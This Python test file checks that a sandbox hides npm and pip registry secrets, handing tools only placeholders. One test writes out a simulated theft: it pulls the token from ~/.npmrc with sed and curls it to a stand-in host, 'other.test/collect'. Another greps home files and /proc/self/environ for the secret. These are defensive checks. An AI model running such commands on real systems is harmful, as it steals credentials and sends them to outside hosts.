"""The user's own tool configuration inside: the same registries, no secret (profiles/toolconfig.py).

A loopback npm-compatible registry that wants a Bearer token and a PyPI-style
index that wants Basic credentials, both over TLS under test names. The
user's ~/.npmrc and ~/.config/pip/pip.conf name them with their secrets, as
a company's setup does. Inside, real npm and pip install from them; the
secrets are only placeholders there, swapped in by the daemon for their own
host, and a placeholder sent to any other host reaches it as a refusal.
"""

from __future__ import annotations

import base64
import hashlib
import http.server
import io
import json
import os
import shutil
import ssl
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from types import SimpleNamespace

import pytest

from tests.e2e.netfixtures import make_box, state_dir
from tests.netkit import make_certificate, stop_daemon
from tests.visible import force_rmtree, visible_packages, visible_root

pytestmark = pytest.mark.e2e

NPM, INDEX, OTHER = "npm.test", "index.test", "other.test"
TOKEN = "npm_T0kenThatNeverEntersTheSandbox" + os.urandom(6).hex()
PASSWORD = "pw-NeverInside-" + os.urandom(6).hex()
USER = "alice"


def _tarball() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        for name, text in (("package/package.json", '{"name": "demo-pkg", "version": "1.0.0", "main": "index.js"}\n'),
                           ("package/index.js", "module.exports = 'demo from the private registry';\n")):  # fmt: skip
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _wheel() -> bytes:
    files = {
        "demo_pkg/__init__.py": b"WHERE = 'the private index'\n",
        "demo_pkg-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: demo-pkg\nVersion: 1.0\n",
        "demo_pkg-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = "".join(
        f"{name},sha256={base64.urlsafe_b64encode(hashlib.sha256(data).digest()).decode().rstrip('=')},{len(data)}\n" for name, data in files.items()
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
        archive.writestr("demo_pkg-1.0.dist-info/RECORD", record + "demo_pkg-1.0.dist-info/RECORD,,\n")
    return buffer.getvalue()


TARBALL, WHEEL = _tarball(), _wheel()
WHEEL_NAME = "demo_pkg-1.0-py3-none-any.whl"


class Registry(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, context: ssl.SSLContext) -> None:
        self.seen: list[tuple[str, str, str]] = []  # (Host, path, Authorization)
        super().__init__(("127.0.0.1", 0), Handler)
        self.socket = context.wrap_socket(self.socket, server_side=True)
        threading.Thread(target=self.serve_forever, daemon=True).start()


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: Registry

    def do_GET(self) -> None:
        host = str(self.headers.get("host", "")).split(":")[0]
        authorization = str(self.headers.get("authorization", ""))
        self.server.seen.append((host, self.path, authorization))
        port = self.server.server_address[1]
        if host == NPM:
            if authorization != f"Bearer {TOKEN}":
                return self._send(401, b'{"error": "token required"}', "application/json")
            if self.path.endswith(".tgz"):
                return self._send(200, TARBALL, "application/octet-stream")
            integrity = "sha512-" + base64.b64encode(hashlib.sha512(TARBALL).digest()).decode()
            dist = {"tarball": f"https://{NPM}:{port}/demo-pkg/-/demo-pkg-1.0.0.tgz", "integrity": integrity,
                    "shasum": hashlib.sha1(TARBALL).hexdigest()}  # fmt: skip
            packument = {"name": "demo-pkg", "dist-tags": {"latest": "1.0.0"},
                         "versions": {"1.0.0": {"name": "demo-pkg", "version": "1.0.0", "dist": dist}}}  # fmt: skip
            return self._send(200, json.dumps(packument).encode(), "application/json")
        if host == INDEX:
            if authorization != "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode():
                return self._send(401, b"credentials required", "text/plain", {"WWW-Authenticate": 'Basic realm="index"'})
            if self.path.endswith(".whl"):
                return self._send(200, WHEEL, "application/octet-stream")
            digest = hashlib.sha256(WHEEL).hexdigest()
            page = f'<html><body><a href="/files/{WHEEL_NAME}#sha256={digest}">{WHEEL_NAME}</a></body></html>'
            return self._send(200, page.encode(), "text/html")
        return self._send(200, f"you sent {authorization}".encode(), "text/plain")

    def _send(self, code: int, body: bytes, kind: str, headers: dict[str, str] | None = None) -> None:
        self.send_response(code)
        for name, value in {"Content-Type": kind, "Content-Length": str(len(body)), **(headers or {})}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[SimpleNamespace]:
    root = visible_root("tools")
    scratch = tmp_path_factory.mktemp("tools")
    cert, key = make_certificate(root, [NPM, INDEX, OTHER])
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    registry = Registry(context)
    port = registry.server_address[1]
    names = scratch / "names.json"
    names.write_text(json.dumps({"names": {name: ["127.0.0.1"] for name in (NPM, INDEX, OTHER)}, "upstreams": [f"127.0.0.1:{port}"]}))
    box = make_box(root / "box")
    box.env.update(STOCKADE_PROXY_TEST_RESOLVER=str(names), STOCKADE_PROXY_TEST_UPSTREAM_CA=str(cert), STOCKADE_PROXY_IDLE="60")
    # Debian's python3 with a copy of pip: the test venv may sit where the sandbox has a private folder
    yield SimpleNamespace(box=box, registry=registry, port=port, pylib=visible_packages(root, "pip"))
    stop_daemon(state_dir(box) / "run")
    registry.shutdown()
    force_rmtree(root)


@pytest.fixture
def configured(world: SimpleNamespace) -> Iterator[SimpleNamespace]:
    """The user's ~/.npmrc and pip.conf, with their secrets, as a company's setup writes them."""
    home = world.box.home
    npmrc = home / ".npmrc"
    npmrc.write_text(f"registry=https://{NPM}:{world.port}/\n//{NPM}:{world.port}/:_authToken={TOKEN}\nfund=false\n")
    pip_conf = home / ".config" / "pip" / "pip.conf"
    pip_conf.parent.mkdir(parents=True, exist_ok=True)
    pip_conf.write_text(f"[global]\nindex-url = https://{USER}:{PASSWORD}@{INDEX}:{world.port}/simple\ndisable-pip-version-check = true\n")
    for place in ("node_modules", "package.json", "package-lock.json", "target"):
        path = world.box.project / place
        shutil.rmtree(path) if path.is_dir() else path.unlink(missing_ok=True)
    yield world
    npmrc.unlink()
    shutil.rmtree(home / ".config" / "pip")


def policy(extra: str = "") -> str:
    return f'extends = ["default"]\n[filesystem]\n{extra}\n[network]\nallow = ["{NPM}", "{INDEX}", "{OTHER}"]\n'


def everything_the_sandbox_can_say(result: object) -> str:
    return f"{getattr(result, 'stdout', '')}\n{getattr(result, 'stderr', '')}"


def test_npm_installs_from_the_users_private_registry_and_the_token_stays_outside(configured: SimpleNamespace) -> None:
    before = len(configured.registry.seen)
    script = (
        "cat ~/.npmrc; grep -rl -- " + TOKEN + " ~ /proc/self/environ 2>/dev/null; echo grep=$?; "
        "npm install demo-pkg --no-audit --no-update-notifier --loglevel=error >/dev/null && node -e 'console.log(require(\"demo-pkg\"))'"
    )
    result = configured.box.run(script, policy=policy(), timeout=120)
    assert result.returncode == 0, result
    assert "demo from the private registry" in result.stdout
    assert "_authToken=stockade-placeholder-file-" in result.stdout and "grep=1" in result.stdout  # the file, without its token
    assert TOKEN not in everything_the_sandbox_can_say(result)
    seen = [entry for entry in configured.registry.seen[before:] if entry[0] == NPM]
    assert seen and all(authorization == f"Bearer {TOKEN}" for _host, _path, authorization in seen), seen


def test_pip_installs_from_the_users_private_index_with_its_password_swapped_in(configured: SimpleNamespace) -> None:
    before = len(configured.registry.seen)
    script = f"grep -c {PASSWORD} ~/.config/pip/pip.conf; PYTHONPATH={configured.pylib} /usr/bin/python3 -m pip install --quiet --no-deps --target target demo-pkg && ls target/demo_pkg"
    result = configured.box.run(script, policy=policy(), timeout=120)
    assert result.returncode == 0, result
    assert result.stdout.splitlines()[0] == "0" and "__init__.py" in result.stdout
    assert PASSWORD not in everything_the_sandbox_can_say(result)
    seen = [entry for entry in configured.registry.seen[before:] if entry[0] == INDEX and entry[2]]
    expected = "Basic " + base64.b64encode(f"{USER}:{PASSWORD}".encode()).decode()
    assert seen and all(authorization == expected for _host, _path, authorization in seen), seen


def test_a_placeholder_sent_to_another_host_never_carries_the_token(configured: SimpleNamespace) -> None:
    """The attack: read the placeholder from ~/.npmrc and send it to a host the sandbox may reach."""
    before = len(configured.registry.seen)
    script = (
        "P=$(sed -n 's/.*_authToken=//p' ~/.npmrc); "
        f'curl -sS -H "Authorization: Bearer $P" -w "[%{{http_code}}]" https://{OTHER}:{configured.port}/collect; echo; '
        f'curl -sS -w "[%{{http_code}}]" "https://{NPM}:{configured.port}/demo-pkg?t=$P"; echo'
    )
    result = configured.box.run(script, policy=policy(), timeout=60)
    seen = configured.registry.seen[before:]
    assert not any(TOKEN in f"{path} {authorization}" for _host, path, authorization in seen if _host != NPM or "?t=" in path), seen
    assert not any(host == OTHER for host, _path, _authorization in seen), seen  # refused before it left
    assert TOKEN not in everything_the_sandbox_can_say(result)
    # control: the same placeholder, where it belongs, works
    control = configured.box.run(
        f'P=$(sed -n "s/.*_authToken=//p" ~/.npmrc); curl -sS -o /dev/null -w "[%{{http_code}}]" -H "Authorization: Bearer $P" https://{NPM}:{configured.port}/demo-pkg',
        policy=policy(),
    )
    assert control.stdout == "[200]", control


def test_with_tool_config_off_the_files_stay_hidden_and_the_private_registry_is_not_used(configured: SimpleNamespace) -> None:
    before = len(configured.registry.seen)
    script = "cat ~/.npmrc 2>/dev/null; echo; npm view demo-pkg version --no-update-notifier >/dev/null 2>&1; echo view=$?"
    result = configured.box.run(script, policy=policy("tool_config = false"), timeout=120)
    assert "_authToken" not in result.stdout and "view=0" not in result.stdout, result
    assert not [entry for entry in configured.registry.seen[before:] if entry[0] == NPM], "npm found the private registry"
    control = configured.box.run(script, policy=policy(), timeout=120)
    assert "_authToken=stockade-placeholder-file-" in control.stdout and "view=0" in control.stdout, control


def test_a_file_that_cannot_be_read_for_its_secrets_is_hidden_with_one_line(configured: SimpleNamespace) -> None:
    condarc = configured.box.home / ".condarc"
    condarc.write_text("channels: [defaults\nnote: an unclosed flow sequence, which no YAML reader follows\n")
    try:
        result = configured.box.run("cat ~/.condarc; echo cat=$?", policy=policy())
    finally:
        condarc.unlink()
    assert "cat=1" in result.stdout, result
    assert [line for line in result.stderr.splitlines() if ".condarc is hidden inside" in line], result.stderr
